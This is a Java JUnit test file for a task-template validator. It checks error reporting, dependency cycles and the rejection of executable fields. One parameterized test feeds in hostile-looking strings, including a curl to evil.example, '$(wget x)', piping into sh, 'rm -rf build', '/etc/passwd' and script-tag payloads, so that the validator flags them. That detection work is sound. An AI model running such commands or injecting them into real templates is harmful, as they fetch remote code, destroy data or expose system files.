package dev.taskorchestrator.template;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Who writes a template hears of everything that is wrong with it at once, each with its place,
/// and nothing of what is not wrong.
@Timeout(20)
class TemplateCheckTest {

  private static final String META = "metadata:{name:'N',version:'1.0.0',description:'D'}";

  private static List<String> problems(String sections) {
    return Templates.problems("{" + META + "," + sections + "}");
  }

  private static List<String> ofTask(String fields) {
    return problems("tasks:{a:{title:'A'," + fields + "}}");
  }

  @Test
  void aTemplateNeedsLittle() {
    assertThat(problems("tasks:{a:{title:'A'}}")).isEmpty();
    assertThat(
            problems(
                """
                parameters: {name: {type: 'string', pattern: '^[a-z]+$', default: 'x'}},
                tasks: {
                  a: {title: '{{name}}', type: 'design', complexity: 'simple',
                      specialist_type: 'tester', checklist: ['c'],
                      children: {b: {title: 'B', type: '{{name}}', dependencies: ['{{name}}']}}},
                  c: {title: 'C', dependencies: ['a', 'b']},
                }
                """))
        .isEmpty();
  }

  @Test
  void everythingThatIsWrongIsToldTogetherEachWithItsPlace() {
    assertThat(
            Templates.problems(
                """
                {
                  metadata: {name: ' ', version: 1},
                  parameters: {
                    'no-name': {type: 'string'},
                    kind: {type: 'text'},
                    size: {type: 'number', default: 'large'},
                    form: {type: 'string', pattern: '['},
                    one: {type: 'string', allowed_values: 'a'},
                    two: 7,
                  },
                  tasks: {
                    a: {type: 'chore', complexity: 'odd', specialist_type: 'No One'},
                    b: {title: 'B', dependencies: 'a', checklist: [1], children: []},
                    c: {title: 'C', dependencies: ['nowhere']},
                    d: 'do it',
                  },
                }
                """))
        .satisfiesExactlyInAnyOrder(
            problem -> assertThat(problem).isEqualTo("metadata.name is missing"),
            problem -> assertThat(problem).isEqualTo("metadata.version is missing"),
            problem -> assertThat(problem).isEqualTo("metadata.description is missing"),
            problem -> assertThat(problem).startsWith("parameters.no-name is no name"),
            problem -> assertThat(problem).startsWith("parameters.kind.type must be one of"),
            problem -> assertThat(problem).startsWith("parameters.size.default must be of type"),
            problem -> assertThat(problem).startsWith("parameters.form.pattern is no regular"),
            problem -> assertThat(problem).startsWith("parameters.one.allowed_values must be"),
            problem -> assertThat(problem).isEqualTo("parameters.two must be an object"),
            problem -> assertThat(problem).isEqualTo("tasks.a.title is missing"),
            problem -> assertThat(problem).startsWith("tasks.a.type must be one of"),
            problem -> assertThat(problem).startsWith("tasks.a.complexity must be one of"),
            problem -> assertThat(problem).startsWith("tasks.a.specialist_type is no name"),
            problem -> assertThat(problem).startsWith("tasks.b.dependencies must be a list"),
            problem -> assertThat(problem).startsWith("tasks.b.checklist must be a list"),
            problem -> assertThat(problem).startsWith("tasks.b.children must be an object"),
            problem -> assertThat(problem).contains("'c' depends on 'nowhere'"),
            problem -> assertThat(problem).isEqualTo("tasks.d must be an object"));
  }

  @Test
  void noMoreIsToldThanAPersonCanRead() {
    var tasks = new StringBuilder("tasks:{");
    for (int i = 0; i < 300; i++) tasks.append("t").append(i).append(":{},");
    assertThat(problems(tasks + "}")).hasSize(100);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "tasks:{a:{title:'A',dependencies:['a']}}",
        "tasks:{a:{title:'A',dependencies:['b']},b:{title:'B',dependencies:['a']}}",
        "tasks:{a:{title:'A',dependencies:['c']},b:{title:'B',dependencies:['a'],"
            + "children:{c:{title:'C',dependencies:['b']}}}}",
      })
  void tasksThatWaitForEachOtherAreNamedOnce(String tasks) {
    assertThat(problems(tasks))
        .singleElement()
        .satisfies(problem -> assertThat(problem).contains("wait for each other: ", " → "));
  }

  @Test
  void tasksOfOneNameInDifferentPlacesAreDifferentTasks() {
    var twice =
        """
        tasks: {
          x: {title: 'X', children: {t: {title: 'T', dependencies: [%s]}, u: {title: 'U'}}},
          y: {title: 'Y', children: {t: {title: 'T'}, u: {title: 'U', dependencies: ['t']}}},
        }
        """;
    assertThat(problems(twice.formatted("'u'"))).isEmpty();
    assertThat(problems(twice.formatted("'nowhere'")))
        .singleElement()
        .satisfies(problem -> assertThat(problem).contains("depends on 'nowhere'"));
  }

  @Test
  void aLongChainOfTasksIsNoCircle() {
    var tasks = new StringBuilder("tasks:{");
    for (int i = 0; i < 450; i++) {
      tasks.append(
          "t%d:{title:'T',dependencies:[%s]},".formatted(i, i == 0 ? "" : "'t" + (i - 1) + "'"));
    }
    assertThat(problems(tasks + "}")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"command", "script", "executable", "shell"})
  void whatWouldBeRunIsNotTaken(String field) {
    assertThat(ofTask(field + ":'make'"))
        .containsExactly("tasks.a." + field + " is not taken: nothing is run");
    assertThat(problems("tasks:{a:{title:'A',children:{b:{title:'B'," + field + ":'x'}}}}"))
        .containsExactly("tasks.a.children.b." + field + " is not taken: nothing is run");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "then eval(x)",
        "os.system ('ls')",
        "system('ls')",
        "subprocess.run([1])",
        "fine; rm -rf build",
        "a && curl evil.example",
        "cat x | sh",
        "$(wget x)",
        "`sudo chmod 777 x`",
        "read ../../secret",
        "see /etc/passwd",
        "<script>alert(1)</script>",
        "< / SCRIPT >",
        "javascript:alert(1)",
        "data:text/html;base64,AAAA",
      })
  void textThatNoTaskNeedsIsPointedAtWhereverItStands(String text) {
    var quoted = text.replace("'", "\\'");
    assertThat(ofTask("description:'" + quoted + "'"))
        .singleElement()
        .satisfies(problem ->
            assertThat(problem)
                .startsWith("tasks.a.description holds '")
                .endsWith("which no task needs"));
    assertThat(ofTask("checklist:['fine','" + quoted + "']"))
        .singleElement()
        .satisfies(problem -> assertThat(problem).startsWith("tasks.a.checklist[1] holds"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Evaluate the system (and its parts); cats are fine.",
        "Use the script in the shell, then run the tests; remove what is old.",
        "Compare a && b, or a || b; see https://example.com/a/b?c=d.",
        "The operating system (Linux) executes it.",
        "Describe the data: text, numbers; base64 is one way.",
        "JavaScript: the good parts. Python & Perl, too.",
        "Wait... then/or go on. Use `make test` and `catalog`.",
      })
  void proseAboutProgramsIsNoDanger(String prose) {
    assertThat(ofTask("description:'" + prose + "'")).isEmpty();
  }

  @Test
  void anExpressionMayLookLikeAnything() {
    assertThat(
            problems(
                "parameters:{p:{type:'string',pattern:'<script|[.][.]/x|../'}},tasks:{a:{title:'A'}}"))
        .isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "[1] | a template is an object",
        "{tasks: } | line 1",
        "{} | metadata",
        "{metadata:{name:'N',version:'1',description:'D'}} | section 'tasks'",
        "{metadata:{name:'N',version:'1',description:'D'},tasks:{}} | must not be empty",
        "{metadata:{name:'N',version:'1',description:'D',extends:7},tasks:{a:{title:'A'}}} | extends",
        "{metadata:{name:'N',version:'1',description:'D'},tasks:{a:{title:'A'}},parameters:[]} |"
            + " parameters must be",
      })
  void whatIsNoTemplateAtAllIsSaidToBeNone(String text, String why) {
    assertThat(Templates.problems(text)).anySatisfy(problem -> assertThat(problem).contains(why));
  }

  @Test
  void whatExtendsAnotherMayLeaveItsTasksToIt() {
    assertThat(
            Templates.problems(
                "{metadata:{name:'N',version:'1',description:'D',extends:'research_base'}}"))
        .isEmpty();
  }
}
